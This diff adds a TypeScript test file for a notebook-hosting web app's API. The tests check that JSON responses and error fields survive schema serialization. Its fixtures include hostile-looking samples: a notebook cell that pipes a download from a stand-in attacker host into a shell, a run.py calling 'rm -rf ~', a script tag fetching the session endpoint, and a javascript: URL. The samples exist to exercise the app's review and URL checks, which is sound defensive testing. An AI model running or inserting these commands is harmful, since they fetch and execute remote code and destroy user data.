@@ -1,0 +1,239 @@
+// Every JSON answer of the app origin is serialized from its route's response schema (src/contract), and a field
+// the schema does not declare would be dropped from it without a word. These tests catch each answer as the route
+// made it, before serialization, and require the answer on the wire to be that same object: every route that
+// answers JSON, and errors with every field that places them.
+import { test, before, after } from "node:test";
+import { rmSync } from "node:fs";
+import assert from "node:assert/strict";
+import type { InjectOptions, preSerializationAsyncHookHandler } from "fastify";
+import { Ajv } from "ajv";
+import { NotebookHead } from "../src/contract/notebook-head-format.ts";
+import { multipart, startTestStudio, PASSWORD, type Caller, type TestStudio } from "./server-helpers.ts";
+
+/** What a route handed to the serializer, by request id, and the route (in OpenAPI's path syntax) that made it. */
+const made = new Map<string, { route: string; payload: unknown }>();
+/** The routes whose 2xx answers were compared, and every field of the errors that were. */
+const comparedRoutes = new Set<string>();
+const errorFields = new Set<string>();
+
+const catchAnswer: preSerializationAsyncHookHandler = async (request, _reply, payload) => {
+  const route = `${request.method} ${String(request.routeOptions.url)
+    .replace(/:([A-Za-z]+)/g, "{$1}")
+    .replace(/\*$/, "{*}")}`;
+  made.set(request.id, { route, payload: JSON.parse(JSON.stringify(payload)) as unknown });
+  return payload;
+};
+
+let t: TestStudio;
+let admin: Caller;
+let member: Caller;
+
+before(async () => {
+  t = await startTestStudio(
+    { "upload-requests-per-minute": "100000", "login-failures-per-account": "2" },
+    {
+      onRoute(route) {
+        const hooks = route.preSerialization === undefined ? [] : [route.preSerialization].flat();
+        route.preSerialization = [...hooks, catchAnswer] as typeof route.preSerialization;
+      },
+    },
+  );
+  admin = await t.addUser("admin", { admin: true });
+  member = await t.addUser("member");
+});
+after(() => t.close());
+
+/** A request whose JSON answer must be, field for field, what its route made. */
+async function call(caller: Caller | undefined, options: InjectOptions) {
+  const response = await t.call(caller, options);
+  const caught = made.get(String(response.headers["x-request-id"]));
+  if (caught !== undefined) {
+    const where = `${caught.route} answered ${response.statusCode}`;
+    assert.deepEqual(response.json(), caught.payload, `${where}: the answer lost or changed a field`);
+    if (response.statusCode < 300) comparedRoutes.add(caught.route);
+    else for (const field of Object.keys(caught.payload as object)) errorFields.add(field);
+  }
+  return response;
+}
+
+const NOTEBOOK = JSON.stringify({
+  nbformat: 4,
+  nbformat_minor: 5,
+  metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
+  cells: [
+    { cell_type: "markdown", id: "m1", metadata: {}, source: "# Title\n\n[docs](https://docs.python.org/3/)" },
+    {
+      cell_type: "code",
+      id: "c1",
+      metadata: {},
+      execution_count: 1,
+      source: "import os\nos.system('curl https://evil.example/x | sh')\nkey = 'AKIAIOSFODNN7EXAMPLE'",
+      outputs: [
+        {
+          output_type: "display_data",
+          metadata: {},
+          data: { "text/html": "<script>fetch('/api/session')</script>", "text/plain": "x" },
+        },
+      ],
+    },
+  ],
+});
+
+test("every JSON answer is what its route made: no field is dropped or changed by the response schemas", async () => {
+  await call(undefined, { method: "GET", url: "/healthz" });
+  await call(undefined, { method: "GET", url: "/api/config" });
+  await call(undefined, { method: "GET", url: "/api/openapi.json" });
+  await call(undefined, { method: "POST", url: "/api/session", payload: { username: "member", password: PASSWORD } });
+  await call(member, { method: "GET", url: "/api/session" });
+
+  const ws = (await call(member, { method: "POST", url: "/api/workspaces", payload: { name: "answers" } })).json()
+    .id as string;
+  await call(member, { method: "GET", url: "/api/workspaces" });
+  await call(member, { method: "GET", url: `/api/workspaces/${ws}` });
+  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}`, payload: { name: "answers, renamed" } });
+  await call(member, {
+    method: "POST",
+    url: `/api/workspaces/${ws}/members`,
+    payload: { username: "admin", role: "viewer" },
+  });
+  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}/members/admin`, payload: { role: "editor" } });
+  await call(member, { method: "GET", url: `/api/workspaces/${ws}/members` });
+
+  const files = [
+    { path: "dir/nb.ipynb", content: NOTEBOOK },
+    { path: "run.py", content: "import subprocess\nsubprocess.run('rm -rf ~', shell=True)\n" },
+    { path: "gone.txt", content: "soon in the trash\n" },
+  ];
+  const upload = await call(member, {
+    method: "POST",
+    url: `/api/workspaces/${ws}/files`,
+    ...multipart("trusted-source-v1", files),
+  });
+  assert.equal(upload.statusCode, 201, upload.body);
+  const review = await call(member, {
+    method: "POST",
+    url: `/api/workspaces/${ws}/review`,
+    ...multipart(undefined, [...files, { path: "con.py", content: "x\n" }]),
+  });
+  assert.ok(review.json().files.some((f: { refused?: unknown }) => f.refused !== undefined));
+  const stored = await call(member, { method: "GET", url: `/api/workspaces/${ws}/review/dir/nb.ipynb` });
+  assert.ok(stored.json().findings.length > 0);
+  await call(member, { method: "GET", url: `/api/workspaces/${ws}/files` });
+  await call(member, { method: "GET", url: `/api/workspaces/${ws}/files/dir/nb.ipynb` });
+  await call(member, { method: "GET", url: `/api/workspaces/${ws}/notebook/dir/nb.ipynb` });
+  await call(member, { method: "PATCH", url: `/api/workspaces/${ws}/files/run.py`, payload: { path: "bin/run.py" } });
+  const trashed = await call(member, { method: "DELETE", url: `/api/workspaces/${ws}/files/gone.txt` });
+  await call(member, { method: "GET", url: `/api/workspaces/${ws}/trash` });
+  await call(member, { method: "POST", url: `/api/workspaces/${ws}/trash/${trashed.json().id}/restore` });
+
+  await call(member, { method: "POST", url: "/api/trust/domains", payload: { domain: "Docs.Python.org" } });
+  await call(member, { method: "GET", url: "/api/trust/domains" });
+  await call(member, { method: "POST", url: "/api/trust/applications", payload: { scheme: "vscode" } });
+  await call(member, { method: "GET", url: "/api/trust/applications" });
+
+  const verdicts = await call(member, {
+    method: "POST",
+    url: "/api/url-check",
+    payload: {
+      checks: [
+        { url: "https://docs.python.org/3/", context: "link" },
+        { url: "https://example.org/page", context: "link" },
+        { url: "https://user:secret@example.org/", context: "link" },
+        { url: "zotero://select/items/1", context: "link" },
+        { url: "vscode://file/x", context: "link" },
+        { url: "javascript:alert(1)", context: "link" },
+        { url: "https://example.org/a.png", context: "image" },
+        { url: "other.ipynb", context: "link", base: `http://localhost:8080/w/${ws}/f/dir/nb.ipynb` },
+      ],
+    },
+  });
+  const fields = new Set(verdicts.json().verdicts.flatMap((v: object) => Object.keys(v)));
+  for (const field of ["prompt", "application", "warning", "proxyUrl", "registrableDomain"])
+    assert.ok(fields.has(field), `no verdict had ${field}, so its serialization went untested`);
+
+  await call(admin, { method: "GET", url: "/api/audit?limit=1000" });
+  await call(member, {
+    method: "PUT",
+    url: "/api/account/password",
+    payload: { currentPassword: PASSWORD, newPassword: "another long password" },
+  });
+
+  const spec = (await t.call(undefined, { method: "GET", url: "/api/openapi.json" })).json() as {
+    paths: Record<string, Record<string, { responses: Record<string, { content?: Record<string, unknown> }> }>>;
+  };
+  // A head is cached serialized and sent as it is: no serializer runs for it (checked against its schema below).
+  const serialized = Object.entries(spec.paths).flatMap(([path, operations]) =>
+    Object.entries(operations)
+      .filter(([, operation]) =>
+        Object.entries(operation.responses).some(([status, r]) => /^2/.test(status) && r.content?.["application/json"]),
+      )
+      .map(([method]) => `${method.toUpperCase()} ${path}`)
+      .filter((route) => route !== "GET /api/workspaces/{ws}/notebook-head/{*}"),
+  );
+  for (const route of serialized) assert.ok(comparedRoutes.has(route), `${route} answered JSON that was not compared`);
+});
+
+test("a notebook head, sent as the server cached it, has exactly the fields of its schema", async () => {
+  const caller = await t.addUser("heads");
+  const ws = (await t.call(caller, { method: "POST", url: "/api/workspaces", payload: { name: "heads" } })).json().id;
+  await t.call(caller, {
+    method: "POST",
+    url: `/api/workspaces/${ws}/files`,
+    ...multipart("trusted-source-v1", [{ path: "nb.ipynb", content: NOTEBOOK }]),
+  });
+  const head = (await t.call(caller, { method: "GET", url: `/api/workspaces/${ws}/notebook-head/nb.ipynb` })).json();
+  const validate = new Ajv({ strict: false }).compile(NotebookHead);
+  assert.ok(validate(head), JSON.stringify(validate.errors));
+  assert.deepEqual(Object.keys(head).sort(), Object.keys(NotebookHead.properties).sort());
+});
+
+test("errors keep every field that places them", async () => {
+  const member = await t.addUser("errors");
+  const ws = (await call(member, { method: "POST", url: "/api/workspaces", payload: { name: "errors" } })).json().id;
+  const upload = (path: string, content: string | Buffer) =>
+    call(member, {
+      method: "POST",
+      url: `/api/workspaces/${ws}/files`,
+      ...multipart("trusted-source-v1", [{ path, content }]),
+    });
+
+  const notebook = await upload("broken.ipynb", '{\n  "nbformat": 4,\n  "cells": [\n');
+  assert.equal(notebook.json().error, "invalid_json");
+  const utf8 = await upload("bad.py", Buffer.from([0x61, 0x0a, 0xff]));
+  assert.equal(utf8.json().error, "invalid_utf8");
+  await upload("a.py", "a\n");
+  await upload("b.py", "b\n");
+  const taken = await call(member, {
+    method: "PATCH",
+    url: `/api/workspaces/${ws}/files/a.py`,
+    payload: { path: "b.py" },
+  });
+  assert.equal(taken.json().error, "path_taken");
+  const body = await call(member, { method: "POST", url: "/api/url-check", payload: { checks: [{ url: 1 }] } });
+  assert.equal(body.json().error, "invalid_body");
+  for (let i = 0; i < 3; i++)
+    await call(undefined, { method: "POST", url: "/api/session", payload: { username: "admin", password: "wrong" } });
+  const throttled = await call(undefined, {
+    method: "POST",
+    url: "/api/session",
+    payload: { username: "admin", password: "wrong" },
+  });
+  assert.equal(throttled.json().error, "login_throttled");
+  for (const field of ["error", "message", "pointer", "line", "column", "file", "path", "offset", "at"])
+    assert.ok(errorFields.has(field), `no error carried ${field}: ${[...errorFields].join(", ")}`);
+  assert.ok(errorFields.has("retryAfterSeconds"));
+});
+
+test("a server failure keeps its request id in the answer", async () => {
+  const broken = await startTestStudio();
+  try {
+    await broken.studio.db.destroy();
+    const r = await broken.app.inject({ method: "GET", url: "/healthz" });
+    assert.equal(r.statusCode, 500);
+    assert.deepEqual(Object.keys(r.json()).sort(), ["error", "message", "requestId"]);
+  } finally {
+    await broken.app.close();
+    await broken.content.close();
+    rmSync(broken.dataDir, { recursive: true, force: true });
+  }
+});
